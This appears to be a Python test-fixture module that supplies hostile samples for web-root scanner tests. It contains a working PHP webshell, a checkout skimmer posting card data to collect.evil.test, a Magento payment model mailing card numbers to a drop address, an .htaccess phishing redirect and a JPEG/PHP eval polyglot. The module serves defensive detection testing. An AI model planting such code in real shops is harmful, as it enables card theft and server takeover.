"""Hostile samples planted into the shop trees of the web-root tests (written for these tests).

Each is what the issue names: a webshell for an upload folder, a skimmer injected into a checkout
template, a payment model altered to mail card data, an .htaccess redirect of checkout traffic,
and a JPEG with PHP inside.
"""

from __future__ import annotations

import random

WEBSHELL = """<?php
if (isset($_REQUEST['cmd'])) {
    echo '<pre>';
    system($_REQUEST['cmd']);
    echo '</pre>';
}
"""

# The EC-CUBE 4 checkout template with a skimmer in an inline script (the second founding incident).
SKIMMED_TEMPLATE = """{% extends 'default_frame.twig' %}
{% block main %}
<form id="shopping-form" method="post" action="{{ url('shopping_confirm') }}">
  {{ form_widget(form.Payment) }}
  <p class="note">{{ 'front.shopping.note'|trans }}</p>
  <button type="submit">確認する</button>
</form>
<script>
document.addEventListener('DOMContentLoaded', function () {
  var f = document.getElementById('shopping-form');
  f.addEventListener('submit', function () {
    var d = {n: document.getElementById('card_no').value, e: document.getElementById('card_exp').value,
             c: document.getElementById('card_cvv').value};
    var x = new XMLHttpRequest();
    x.open('POST', 'https://collect.evil.test/g.php');
    x.send(btoa(JSON.stringify(d)));
  });
});
</script>
{% endblock %}
"""
SKIMMER_LINE = 15  # the XMLHttpRequest send: where SG440 (card data sent to a computed URL) points

# Magento 2's credit-card payment model, altered to mail the card to a drop box.
MAILING_PAYMENT_MODEL = """<?php
namespace Magento\\Payment\\Model\\Method;

class Cc extends AbstractMethod
{
    public function validate()
    {
        $info = $this->getInfoInstance();
        $body = $info->getCcNumber() . '|' . $info->getCcExpMonth() . '/' . $info->getCcExpYear()
            . '|' . $info->getCcCid();
        @mail('drop@evil.test', 'order ' . $info->getOrder()->getIncrementId(), $body);
        $ccType = $info->getCcType();
        if (!$ccType) {
            throw new \\Magento\\Framework\\Exception\\LocalizedException(__('Invalid credit card type.'));
        }
        return parent::validate();
    }
}
"""

# WordPress .htaccess with a redirect of checkout visitors from search engines to a phishing host.
REDIRECT_HTACCESS = """# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]
RewriteCond %{REQUEST_URI} checkout [NC]
RewriteRule ^(.*)$ https://pay-secure.evil.test/checkout/$1 [R=302,L]
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
"""

_NOISE = random.Random(7).randbytes(3000)
# A JPEG whose comment segment holds PHP: passes an image-header check, runs when included.
POLYGLOT_JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe\x00\x30"
    + b"<?php eval(base64_decode($_POST['x'])); ?>"
    + _NOISE.replace(b"<?", b"<!")
    + b"\xff\xd9"
)
POLYGLOT_OFFSET = 24
